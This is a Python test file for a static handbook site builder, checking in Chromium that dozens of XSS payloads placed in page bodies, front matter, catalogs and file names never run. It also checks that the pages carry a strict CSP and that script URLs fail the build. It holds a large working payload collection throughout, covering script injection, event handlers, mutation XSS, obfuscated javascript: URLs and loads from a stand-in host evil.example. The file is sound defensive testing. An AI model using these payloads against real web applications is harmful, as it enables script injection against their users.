"""Hostile content: XSS payloads in every field an editor controls must never run for a reader.

- A payload corpus that still builds (exit 0): what cannot be published is removed, and each
  removal is a warning naming file and line. Chromium opens every page of that build and must
  see no dialog, no window.__pwned, no document.title 'PWNED', no request to any host but
  127.0.0.1, and no navigation away.
- Every built page carries a strict Content-Security-Policy and no inline script.
- javascript:, data: and vbscript: URLs in links and images, and an organisation website that is
  not http(s), fail the build (exit 1) naming the file and the line.
"""

from __future__ import annotations

import contextlib
import io
import re
from contextlib import redirect_stderr, suppress
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from browser import served
from conftest import parse, write_files
from handbook.cli import main
from handbook.typography import typeset_interface

EVIL = "https://evil.example"
LANGUAGES = ("sv", "da", "cs", "en")

# -- the payloads ---------------------------------------------------------------------------
# Each signals that it ran: a dialog (alert, confirm, prompt), window.__pwned = 1,
# document.title = 'PWNED', or a request to evil.example. Payloads that fire on focus set
# window.__pwned rather than open a dialog, which would take the focus and fire them again.

SCRIPT = "<script>window.__pwned=1</script>"

# Raw HTML in a page body, one Markdown paragraph each, so that a warning can name its line.
HTML_PAYLOADS = [
    SCRIPT,
    f'<script src="{EVIL}/script.js"></script>',
    f'<img src="{EVIL}/onerror.png" onerror="alert(1)">',
    f"<IMG SRC={EVIL}/upper.png ONERROR=confirm(1)>",
    f'<img src="{EVIL}/entity.png" onerror="&#97;lert(1)">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>window.__pwned=1</script></svg>",
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    f'<iframe src="{EVIL}/frame.html"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f'<object data="{EVIL}/object.swf"></object>',
    f'<embed src="{EVIL}/embed.swf">',
    f'<form action="{EVIL}/form"><button formaction="{EVIL}/formaction" '
    'onfocus="window.__pwned=1">Skicka</button></form>',
    '<input autofocus onfocus="window.__pwned=1">',
    '<details open ontoggle="alert(1)"><summary>Mer</summary>Text</details>',
    '<video><source onerror="alert(1)"></video>',
    f'<audio src="{EVIL}/audio.mp3" onerror="alert(1)"></audio>',
    '<body onload="alert(1)">',
    f'<a href="{EVIL}/focus" tabindex="1" onfocus="window.__pwned=1">Fokus</a>',
    '<marquee onstart="alert(1)">Rullande</marquee>',
    f'<link rel="stylesheet" href="{EVIL}/style.css">',
    f"<style>@import url({EVIL}/import.css); body {{ background: url({EVIL}/background.png) }}</style>",
    f'<div style="background-image: url({EVIL}/style-attribute.png); width: expression(alert(1))">Stil</div>',
    f'<img src="{EVIL}/srcset.png" srcset="{EVIL}/srcset-2x.png 2x">',
    f'<base href="{EVIL}/">',
    "![Logotyp efter base](media/logo.svg)",  # relative, after <base>: would load from evil.example
]

# Markdown's own constructs carrying payloads.
MARKDOWN_PAYLOADS = [
    f"[En länk]({EVIL}/link 'titel\"><script>window.__pwned=1</script>')",
    f"<{EVIL}/autolink>",
    "[En referens][ond]",
    f"[ond]: {EVIL}/reference \"x' onmouseover='alert(1)\"",
    f"![Fjärrbild]({EVIL}/remote.png)",
    f'![alt" onerror="alert(1)]({EVIL}/alt.png)',
    '![Logotyp](media/bild.png "\\" onload=\\"alert(1)")',
    "Med fotnot.[^ond]",
    f"[^ond]: <img src={EVIL}/footnote.png onerror=alert(1)> {SCRIPT}",
    "HTML och CSS.",
    "*[HTML]: <img src=x onerror=alert(1)>",
    "*[CSS]: \"><script>window.__pwned=1</script>",
    f"Term {SCRIPT}\n: <svg onload=alert(1)></svg> <img src={EVIL}/definition.png onerror=alert(1)>",
    f"| Kolumn | <img src={EVIL}/table-head.png onerror=alert(1)> |\n|---|---|\n"
    f"| {SCRIPT} | <svg onload=confirm(1)></svg> |",
    "[TOC]",
    f"## <img src={EVIL}/heading.png onerror=alert(1)> Rubrik {SCRIPT}",
    "`<script>alert(1)</script>`",
    f"*{SCRIPT}* **<img src={EVIL}/strong.png onerror=prompt(1)>**",
    f"```html\n{SCRIPT}\n```",
]

# Mutation XSS: markup that a sanitiser and a browser may parse differently. Each goes at the
# end of a page, since some leave elements open that swallow what follows.
MUTATION_PAYLOADS = [
    f'<noscript><p title="</noscript><img src={EVIL}/mxss-noscript.png onerror=alert(1)>"></noscript>',
    f"<math><mtext><table><mglyph><style><img src={EVIL}/mxss-mglyph.png onerror=alert(1)>"
    "</style></mglyph></table></mtext></math>",
    f'<svg></p><style><a id="</style><img src={EVIL}/mxss-svg-style.png onerror=alert(1)>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src={EVIL}/mxss-form.png onerror=alert(1)>",
    f"<svg><![CDATA[><img src={EVIL}/mxss-cdata.png onerror=alert(1)>]]></svg>",
    f"<template><script>window.__pwned=1</script></template><!--><img src={EVIL}/comment.png onerror=alert(1)>-->",
]

# Plain-text fields (titles, names, author, role) must come out as text.
TITLE = f"</title><script>document.title='PWNED'</script><img src={EVIL}/title.png onerror=alert(1)>"
ORGANISATION_NAME = f"{SCRIPT}<img src={EVIL}/name.png onerror=alert(1)> Ond & Co"
AUTHOR = "<script>alert(1)</script>Karin"
ROLE = f'"><img src={EVIL}/role.png onerror=prompt(1)>'
# Fields rendered as HTML (Markdown inline or block).
STATEMENT = f"{SCRIPT}<img src={EVIL}/statement.png onerror=alert(1)> <svg onload=confirm(1)></svg> Alltid *bättre*"
SUMMARY = f'<img src="{EVIL}/summary.png" onerror="prompt(1)"> "><script>window.__pwned=1</script>'
SOURCE = (f'<a href="{EVIL}/source" onclick="alert(1)" onfocus="window.__pwned=1" tabindex="1">'
          f"Broschyr</a>{SCRIPT}")
ORGANISATION_SUMMARY = (f"<img src={EVIL}/org-summary.png onerror=alert(1)> {SCRIPT} *Vi* "
                        f'<iframe src="{EVIL}/org-summary-frame"></iframe>')
VALUE_NAME = f"<img src={EVIL}/value.png onerror=alert(1)>Omtanke<script>window.__pwned=1</script>"
VALUE_DESCRIPTION = (f'{SCRIPT}<iframe src="{EVIL}/value-frame"></iframe> Vi *lyssnar* '
                     '<a href="https://x.example/" onmouseover="alert(1)">mer</a>')
GOALS = [
    f"{SCRIPT}Alla får svar",
    f"<img src={EVIL}/goal.png onerror=alert(1)>",
    f'<a href="{EVIL}/goal" onfocus="window.__pwned=1" autofocus tabindex="1">Mål</a>',
    f'<details open ontoggle="confirm(1)">Mer</details> <object data="{EVIL}/goal.swf"></object>',
]
# Websites: http URLs that try to break out of href="…" or href='…'. Raw quotes and angle
# brackets may be refused as not a web address, so those are tested on their own (below); the
# corpus carries them percent-encoded, and a raw single quote in the path.
WEBSITE = "https://x.example/?q=%22%3E%3Cscript%3Ewindow.__pwned=1%3C/script%3E&r='onmouseover=alert(1)//"
SECOND_NAME = '"><svg onload=alert(1)>Ond'
SECOND_WEBSITE = "http://ond.example/'onmouseover='alert(1)"
QUOTED_WEBSITES = ["https://x.example/?q=\"><script>window.__pwned=1</script>&r='onmouseover=alert(1)//",
                   'http://ond.example/"onmouseover="alert(1)']
SITE_TITLES = {
    "sv": f"{SCRIPT}Handbok",
    "da": f"</title><img src={EVIL}/site-title.png onerror=alert(1)>Håndbog",
    "cs": '"><svg onload=alert(1)>Příručka',
    "en": "<img src=x onerror=alert(1)>Handbook",
}

# A site's own catalog rewording interface strings: what it says is plain text.
SKIP_LINK = "<img src=x onerror=alert(1)>"
LAST_UPDATED = "<img src=x onerror=alert(2)>Senast uppdaterad %(date)s"  # around a <time> element
LANGUAGES_LABEL = 'x" tabindex="1" autofocus onfocus="window.__pwned=1" data-x="'  # in aria-label="…"
CATALOG = {
    "Skip to content": SKIP_LINK,
    "Languages": LANGUAGES_LABEL,
    "Page not found": "<script>document.title='PWNED'</script>Sidan hittades inte",
    "Source: %(source)s": "<img src=x onerror=confirm(1)>Källa: %(source)s",
    "Published %(date)s": "<svg onload=prompt(1)></svg>Publicerad %(date)s",
    "Last updated %(date)s": LAST_UPDATED,
}

CLEAN_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">'
             '<circle cx="5" cy="5" r="4" fill="#2e7d32"/></svg>\n')
SCRIPTED_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)">\n'
                "<script>window.__pwned = 1; document.title = 'PWNED'; alert(2)</script>\n"
                '<rect width="10" height="10"/>\n</svg>\n')
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                    "1f15c4890000000d49444154789c6360f8ffff3f0005fe02fea7d6a4ea0000000049454e44ae426082")
WEIRD_LOGO = "media/x\" onerror=\"alert(1).png"  # a file name is editor-controlled too


# -- the corpus site --------------------------------------------------------------------------

def q(text: str) -> str:
    """A YAML single-quoted scalar: any payload, as it is."""
    return "'" + text.replace("'", "''") + "'"


def po_string(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def page(front: list[str], body: list[str]) -> str:
    """A Markdown page: front matter lines, then the body's paragraphs."""
    return "---\n" + "\n".join(front) + "\n---\n" + "\n\n".join(body) + "\n"


# Small sites for one payload: an organisation, and a page with the payload on PAYLOAD_LINE.
ORG = {"content/org/organisation.yaml": "name: Org\nlanguage: sv\n"}
PAYLOAD_LINE = 6  # page(["title: Sida"], ["Före.", payload, …]): ---, title, ---, Före., blank


def website_site(website: str) -> dict[str, str]:
    """An organisation whose website (on line 3 of organisation.yaml) is `website`."""
    return {"content/org/organisation.yaml": f"name: Org\nlanguage: sv\nwebsite: {q(website)}\n"}


def assert_error_at(result, file: str, line: int) -> None:
    """The build failed, and an error names the file and the line."""
    assert result.code == 1, result.err
    assert re.search(rf"^{re.escape(file)}:{line}(:\d+)?: error\[HB\d{{3}}\]: ", result.err, re.M), \
        f"no error at {file}:{line}:\n{result.err}"


def corpus_files() -> dict[str, str | bytes]:
    """The whole hostile site: two organisations, every kind of page, a translation, a catalog."""
    values = ["values:", f"  - name: {q(VALUE_NAME)}", f"    description: {q(VALUE_DESCRIPTION)}",
              f"  - name: {q('<svg onload=alert(1)>')}", "    description: |",
              "      <details open ontoggle=alert(1)>Mer</details>", f"      {SCRIPT}"]
    goals = ["period:", "  from: 2025", "  to: 2027", "goals:", *[f"  - {q(goal)}" for goal in GOALS]]
    catalog = 'msgid ""\nmsgstr ""\n"Language: sv\\n"\n' + "".join(
        f"\nmsgid {po_string(msgid)}\nmsgstr {po_string(msgstr)}\n" for msgid, msgstr in CATALOG.items())
    return {
        "site.yaml": "title:\n" + "".join(f"  {code}: {q(t)}\n" for code, t in SITE_TITLES.items())
                     + "base_url: https://handbook.example/\nlanguages: [sv, da, cs, en]\n"
                       "default_language: sv\ntheme: default\n",
        "locales/sv/LC_MESSAGES/messages.po": catalog,
        "content/xss/organisation.yaml": "\n".join([
            f"name: {q(ORGANISATION_NAME)}", "language: sv", "country: SE",
            f"website: {q(WEBSITE)}", f"summary: {q(ORGANISATION_SUMMARY)}", "logo: media/logo.svg"]) + "\n",
        "content/xss/media/logo.svg": CLEAN_SVG,
        "content/xss/media/bild.png": PNG,
        "content/xss/vision.md": page(
            [f"title: {q(TITLE)}", f"statement: {q(STATEMENT)}", f"summary: {q(SUMMARY)}",
             f"author: {q(AUTHOR)}", f"role: {q(ROLE)}", f"source: {q(SOURCE)}", "updated: 2025-01-01"],
            ["Vår vision.", SCRIPT, f"<img src={EVIL}/vision.png onerror=alert(1)>", MUTATION_PAYLOADS[0]]),
        "content/xss/vision.en.md": page(
            [f"title: {q(TITLE)}", "translated_from: sv", f"statement: {q(STATEMENT)}",
             f"summary: {q(SUMMARY)}", f"source: {q(SOURCE)}", "updated: 2025-01-01"],
            ["Our vision.", SCRIPT, f'<svg onload="alert(1)"></svg> [Link]({EVIL}/en-link)',
             MUTATION_PAYLOADS[1]]),
        "content/xss/values.md": page(
            [f"title: {q(TITLE)}", *values],
            ["Våra värderingar.", f'<iframe srcdoc="{SCRIPT}"></iframe>', MUTATION_PAYLOADS[2]]),
        "content/xss/strategy.md": page(
            [f"title: {q(TITLE)}", *goals, f"summary: {q(SUMMARY)}"],
            ["Strategin.", f"<img src={EVIL}/strategy.png onerror=alert(1)>", MUTATION_PAYLOADS[3]]),
        "content/xss/brev.md": page(
            [f"title: {q(TITLE)}", f"summary: {q(SUMMARY)}", f"author: {q(AUTHOR)}", f"role: {q(ROLE)}",
             "date: 2025-02-03", f"source: {q(SOURCE)}"],
            ["Ett brev.", *HTML_PAYLOADS, *MARKDOWN_PAYLOADS, MUTATION_PAYLOADS[4]]),
        "content/ond/organisation.yaml": "\n".join([
            f"name: {q(SECOND_NAME)}", "language: da", "country: DK", f"website: {q(SECOND_WEBSITE)}",
            f"summary: {q(ORGANISATION_SUMMARY)}", f"logo: {q(WEIRD_LOGO)}"]) + "\n",
        f"content/ond/{WEIRD_LOGO}": PNG,
        "content/ond/vision.md": page(
            [f"title: {q(TITLE)}", f"statement: {q(STATEMENT)}"],
            ["Vores vision.", f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
             MUTATION_PAYLOADS[5]]),
    }


# Every HTML file the corpus builds; the root page is opened at #languages, where it stays.
PAGES = ["index.html"] + [f"{code}/{name}" for code in LANGUAGES for name in
                          ("index.html", "404.html", "xss/index.html", "ond/index.html",
                           "xss/print/index.html", "ond/print/index.html")] + [
    "sv/xss/vision/index.html", "en/xss/vision/index.html", "sv/xss/values/index.html",
    "sv/xss/strategy/index.html", "sv/xss/brev/index.html", "da/ond/vision/index.html"]
# The files that hold HTML payloads: each must get at least one warning naming a line.
WARNED_FILES = ["content/xss/organisation.yaml", "content/xss/vision.md", "content/xss/vision.en.md",
                "content/xss/values.md", "content/xss/strategy.md", "content/xss/brev.md",
                "content/ond/organisation.yaml", "content/ond/vision.md",
                "locales/sv/LC_MESSAGES/messages.po"]


def line_number(text: str, start: str) -> int:
    """The 1-based number of the first line of `text` that starts with `start`."""
    return next(n for n, line in enumerate(text.split("\n"), 1) if line.startswith(start))


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Path:
    """The corpus, built once for this module; its build/ folder."""
    root = tmp_path_factory.mktemp("corpus")
    write_files(root, corpus_files())
    err = io.StringIO()
    with redirect_stderr(err):
        code = main(["build", str(root)])
    assert code == 0, err.getvalue()
    return root / "build"


@pytest.fixture(scope="module")
def corpus_url(corpus):
    with served(corpus) as url:
        yield url


# -- what a page does in Chromium -----------------------------------------------------------

SETTLE_MS = 600  # after load and tabbing: time for timers, refreshes and late loads


@dataclass
class Visit:
    """What happened while a page was open, and notes (console, failed requests) for a failure."""

    url: str
    dialogs: list[str] = field(default_factory=list)
    foreign_requests: list[str] = field(default_factory=list)
    pwned_frames: list[str] = field(default_factory=list)
    title: str = ""
    final_url: str = ""
    notes: list[str] = field(default_factory=list)

    def signals(self) -> dict[str, object]:
        """Every sign that a payload ran; empty when none did."""
        found: dict[str, object] = {}
        if self.dialogs:
            found["dialogs"] = self.dialogs
        if self.pwned_frames:
            found["window.__pwned set in"] = self.pwned_frames
        if self.title == "PWNED":
            found["document.title"] = self.title
        if self.foreign_requests:
            found["requests to other hosts"] = self.foreign_requests
        if self.final_url != self.url:
            found["navigated to"] = self.final_url
        return found

    def report(self) -> str:
        """The signals in full, then the notes: the message of a failed assertion."""
        signals = [f"  {name}: {value}" for name, value in self.signals().items()]
        return "\n".join([f"visiting {self.url}", *signals, "notes:", *self.notes])


def visit(browser, url: str, click: bool = False) -> Visit:
    """Open `url` with JavaScript on, tab through it (and with `click`, click what the text
    links), and record every signal; requests to any host but 127.0.0.1 are recorded and aborted.
    A request the page's policy blocks never reaches the route: that is fine, it was not sent."""
    from playwright.sync_api import Error

    seen = Visit(url)

    def route(intercepted) -> None:
        if urlsplit(intercepted.request.url).hostname == "127.0.0.1":
            intercepted.continue_()
        else:
            seen.foreign_requests.append(intercepted.request.url)
            intercepted.abort()

    def dialog(opened) -> None:
        seen.dialogs.append(f"{opened.type}({opened.message})")
        with contextlib.suppress(Error):  # gone already: the page navigated or closed
            opened.dismiss()

    context = browser.new_context()
    context.route("**/*", route)
    page = context.new_page()
    page.on("dialog", dialog)
    page.on("console", lambda message: seen.notes.append(f"console {message.type}: {message.text}"))
    page.on("pageerror", lambda error: seen.notes.append(f"page error: {error}"))
    page.on("requestfailed", lambda request: seen.notes.append(
        f"request failed: {request.url} ({request.failure})"))
    try:
        page.goto(url, wait_until="load")
        for _ in range(5):
            page.keyboard.press("Tab")
        if click:
            click_text_links(page)
        page.wait_for_timeout(SETTLE_MS)
        seen.final_url = page.url
        try:
            seen.title = page.title()
        except Error as exc:
            seen.notes.append(f"no title: {exc}")
        for frame in page.frames:
            try:
                if frame.evaluate("() => typeof window.__pwned !== 'undefined'"):
                    seen.pwned_frames.append(frame.url)
            except Error as exc:
                seen.notes.append(f"cannot look into frame {frame.url}: {exc}")
    finally:
        context.close()
    return seen


def click_text_links(page) -> None:
    """Click every link, button and image-map area in the page's text (.prose), as a reader might."""
    from playwright.sync_api import Error

    for element in page.locator(".prose a, .prose button, .prose area, .prose input").all():
        with suppress(Error):
            element.dispatch_event("click", timeout=1000)


CANARY = f"""<!DOCTYPE html>
<html><head><title>canary</title>
<script>window.__pwned = 1; document.title = 'PWNED'; alert('loaded');</script>
</head><body>
<a href="#" onfocus="this.onfocus = null; confirm('tabbed')">focus</a>
<img src="{EVIL}/canary.png" alt="">
<div class="prose"><a href="javascript:prompt('clicked')">click</a></div>
</body></html>
"""


@pytest.mark.browser
def test_the_detector_sees_each_kind_of_signal(browser, tmp_path):
    """The harness itself: a page that does everything a payload could must be caught."""
    (tmp_path / "canary.html").write_text(CANARY, encoding="utf-8")
    with served(tmp_path) as url:
        seen = visit(browser, url + "canary.html", click=True)
    assert seen.dialogs == ["alert(loaded)", "confirm(tabbed)", "prompt(clicked)"], seen.report()
    assert seen.pwned_frames == [url + "canary.html"]
    assert seen.title == "PWNED"
    assert seen.foreign_requests == [f"{EVIL}/canary.png"]
    assert set(seen.signals()) == {"dialogs", "window.__pwned set in", "document.title",
                                   "requests to other hosts"}


# -- the corpus builds, and says what it removed ------------------------------------------------

def test_the_corpus_builds_with_warnings_that_name_file_and_line(make_site, run):
    files = corpus_files()
    root = make_site(files, files["site.yaml"])
    result = run("build", root)
    assert result.code == 0, result.err
    for file in WARNED_FILES:
        assert re.search(rf"^{re.escape(file)}:\d+(:\d+)?: warning\[HB\d{{3}}\]: ", result.err, re.M), \
            f"no warning with a line for {file}:\n{result.err}"
    # A script in the body, and one in a YAML text, each at the line it is written on
    # ("<script> removed", give or take words between the two).
    body_line = line_number(files["content/xss/brev.md"], SCRIPT)
    statement_line = line_number(files["content/xss/vision.md"], "statement:")
    for file, line in (("content/xss/brev.md", body_line), ("content/xss/vision.md", statement_line)):
        assert re.search(rf"^{re.escape(file)}:{line}(:\d+)?: warning\[HB\d{{3}}\]: .*<script>.* removed",
                         result.err, re.M), f"no '<script> removed' at {file}:{line}:\n{result.err}"


def test_every_built_page_is_checked(corpus):
    assert sorted(p.relative_to(corpus).as_posix() for p in corpus.rglob("*.html")) == sorted(PAGES)


# -- in Chromium ----------------------------------------------------------------------------

def address(path: str) -> str:
    """Where to open a built file: the root page at #languages (else it moves on to a language)."""
    return "#languages" if path == "index.html" else path.removesuffix("index.html")


@pytest.mark.browser
@pytest.mark.parametrize("path", PAGES)
def test_no_payload_runs_in_chromium(browser, corpus_url, path):
    seen = visit(browser, corpus_url + address(path))
    assert seen.signals() == {}, seen.report()


@pytest.mark.browser
def test_a_scripted_svg_is_refused_or_cannot_run(make_site, run, browser):
    """An SVG file runs its scripts when opened on its own: refused (exit 1), or made inert."""
    root = make_site({
        "content/org/organisation.yaml": "name: Org\nlanguage: sv\nlogo: media/evil.svg\n",
        "content/org/media/evil.svg": SCRIPTED_SVG,
        "content/org/vision.md": "---\ntitle: Vision\n---\n![Logotyp](media/evil.svg)\n",
    })
    result = run("build", root)
    if result.code == 1:
        assert re.search(r"^content/org/(organisation\.yaml|media/evil\.svg|vision\.md)[:\d]*: error\[HB\d{3}\]: ",
                         result.err, re.M), result.err
        return
    assert result.code == 0, result.err
    with served(result.build) as url:
        for path in ("media/org/evil.svg", "sv/org/", "sv/org/vision/"):
            seen = visit(browser, url + path)
            assert seen.signals() == {}, seen.report()


# Payloads whose URLs may reasonably be refused as errors or removed with a warning: either the
# build fails naming the line, or the page runs nothing even when every link in it is clicked.
REFUSED_OR_INERT = {
    "button-formaction": '<form><button formaction="javascript:alert(1)">Skicka</button></form>',
    "form-action": '<form action="javascript:alert(1)"><input type="submit" value="Skicka"></form>',
    "iframe-src": '<iframe src="javascript:alert(1)"></iframe>',
    "object-data": '<object data="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"></object>',
    "embed-src": '<embed src="javascript:alert(1)">',
    "svg-link": '<svg width="40" height="40"><a xlink:href="javascript:alert(1)">'
                '<rect width="40" height="40"/></a></svg>',
    "area-link": '<map name="m"><area shape="rect" coords="0,0,40,40" href="javascript:alert(1)"></map>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "srcset": '<img src="media/bild.png" srcset="javascript:alert(1) 2x" alt="Bild">',
}


@pytest.mark.browser
@pytest.mark.parametrize("payload", REFUSED_OR_INERT.values(), ids=REFUSED_OR_INERT.keys())
def test_a_script_url_elsewhere_is_refused_or_inert(make_site, run, browser, payload):
    root = make_site({**ORG, "content/org/media/bild.png": PNG,
                      "content/org/page.md": page(["title: Sida"], ["Före.", payload, "Efter."])})
    result = run("build", root)
    if result.code == 1:
        assert_error_at(result, "content/org/page.md", PAYLOAD_LINE)
        return
    assert result.code == 0, result.err
    with served(result.build) as url:
        seen = visit(browser, url + "sv/org/page/", click=True)
    assert seen.signals() == {}, seen.report()


@pytest.mark.browser
@pytest.mark.parametrize("website", QUOTED_WEBSITES)
def test_a_website_with_quotes_is_refused_or_escaped(make_site, run, browser, website):
    result = run("build", make_site(website_site(website)))
    if result.code == 1:
        assert_error_at(result, "content/org/organisation.yaml", 3)
        return
    assert result.code == 0, result.err
    facts = result.html("sv/org/index.html").select_one(".facts")
    link = facts.select_one("a")
    assert link.get_text() == website
    assert not [name for name in link.attrs if name.startswith("on")]
    assert not facts.select("script, img")
    with served(result.build) as url:
        seen = visit(browser, url + "sv/org/")
    assert seen.signals() == {}, seen.report()


# -- what the built HTML says ---------------------------------------------------------------

def policy_of(soup) -> dict[str, list[str]]:
    """The directives of the page's Content-Security-Policy <meta> in <head>, by name."""
    meta = soup.find("meta", attrs={"http-equiv": re.compile("^content-security-policy$", re.I)})
    assert meta is not None, "no <meta http-equiv=\"Content-Security-Policy\">"
    assert meta.find_parent("head") is not None, "the policy <meta> is not in <head>, where it counts"
    directives = {}
    for part in meta.get("content", "").split(";"):
        name, *sources = part.split() or [""]
        if name:
            directives[name.lower()] = sources
    return directives


@pytest.mark.parametrize("path", PAGES)
def test_every_page_carries_a_strict_content_security_policy(corpus, path):
    policy = policy_of(parse(corpus / path))
    assert "'self'" in policy.get("default-src", []), policy
    assert policy.get("object-src") == ["'none'"], policy
    assert policy.get("base-uri") == ["'self'"], policy
    assert "'unsafe-inline'" not in policy.get("script-src", policy["default-src"]), policy


@pytest.mark.parametrize("path", PAGES)
def test_no_page_has_inline_script_or_event_handlers(corpus, path):
    soup = parse(corpus / path)
    inline = [str(s)[:80] for s in soup.find_all("script") if not s.get("src")]
    assert inline == []
    foreign = [s["src"] for s in soup.find_all("script", src=True) if re.match(r"^([a-z]+:|//)", s["src"], re.I)]
    assert foreign == []
    handlers = [f"<{tag.name} {name}>" for tag in soup.find_all(True) for name in tag.attrs
                if name.lower().startswith("on")]
    assert handlers == []


def test_the_site_catalog_is_plain_text(corpus):
    """Markup in a site's catalog is shown as text, in attributes as well."""
    for path in ("sv/index.html", "sv/xss/index.html", "sv/xss/brev/index.html"):
        soup = parse(corpus / path)
        assert soup.select_one(".skip-link").get_text() == SKIP_LINK
        assert not soup.select(".skip-link *")
    updated = parse(corpus / "sv/xss/brev/index.html").select_one(".last-updated")
    assert [child.name for child in updated.find_all(True)] == ["time"]
    assert updated.get_text() == LAST_UPDATED % {"date": "3 februari 2025"}
    switcher = parse(corpus / "sv/index.html").select_one(".language-switcher")
    # Text, set by Swedish typography like every catalog string: its quotes become ”.
    assert switcher["aria-label"] == typeset_interface(LANGUAGES_LABEL, "sv")
    assert not {"tabindex", "autofocus", "onfocus", "data-x"} & set(switcher.attrs)


# -- URLs that run code fail the build ------------------------------------------------------

SCRIPT_URLS = {
    "javascript": "javascript:alert(1)",
    "mixed-case": "JaVaScRiPt:alert(1)",
    "tab-reference": "java&#9;script:alert(1)",      # a browser drops the tab
    "newline-reference": "java&#10;script:alert(1)",  # and the newline
    "character-reference": "&#106;avascript:alert(1)",
    "data": "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "vbscript": "vbscript:msgbox(1)",
}
# In a page body (on PAYLOAD_LINE) and in a vision statement (line 3 of vision.md).
URL_PLACES = {
    "markdown-link": "[Klicka]({url})",
    "markdown-image": "![Bild]({url})",
    "html-link": '<a href="{url}">Klicka</a>',
    "html-image": '<img src="{url}" alt="Bild">',
    "statement-link": "statement: [Klicka]({url})",
    "statement-html-link": 'statement: <a href="{url}">Klicka</a>',
}
# Markdown turns a literal tab into spaces, which no browser reads as javascript:; written as a
# Markdown link it must still fail the build (the &#9; form above is the one that would run).
LITERAL_TAB = [("markdown-link", "java\tscript:alert(1)"), ("markdown-image", "java\tscript:alert(1)")]
URL_CASES = [pytest.param(place, url, id=f"{place}-{name}")
             for place in URL_PLACES for name, url in SCRIPT_URLS.items()] + [
    pytest.param(place, url, id=f"{place}-literal-tab") for place, url in LITERAL_TAB]


def url_site(place: str, url: str) -> tuple[dict[str, str], str, int]:
    """A small site with `url` written in `place`; the file and line it is written on."""
    written = URL_PLACES[place].format(url=url)
    if written.startswith("statement: "):
        files = {"content/org/vision.md": page(["title: Vision", f"statement: {q(written[11:])}"], ["Text."])}
        return {**ORG, **files}, "content/org/vision.md", 3
    files = {"content/org/page.md": page(["title: Sida"], ["Före.", written, "Efter."])}
    return {**ORG, **files}, "content/org/page.md", PAYLOAD_LINE


@pytest.mark.parametrize("place,url", URL_CASES)
def test_a_script_url_in_a_link_or_image_fails_the_build(make_site, run, place, url):
    files, file, line = url_site(place, url)
    assert_error_at(run("build", make_site(files)), file, line)


WEBSITES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)",
            "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E", "vbscript:msgbox(1)"]


@pytest.mark.parametrize("website", WEBSITES)
def test_a_website_that_is_not_http_fails_the_build(make_site, run, website):
    assert_error_at(run("build", make_site(website_site(website))), "content/org/organisation.yaml", 3)


@pytest.mark.parametrize("place", URL_PLACES)
def test_the_same_sites_with_a_web_address_build(make_site, run, place):
    """The control for the two tests above: only the URL makes those sites fail."""
    files, _, _ = url_site(place, "https://x.example/bild.png")
    assert run("build", make_site({**files, **website_site("https://x.example/")})).code == 0
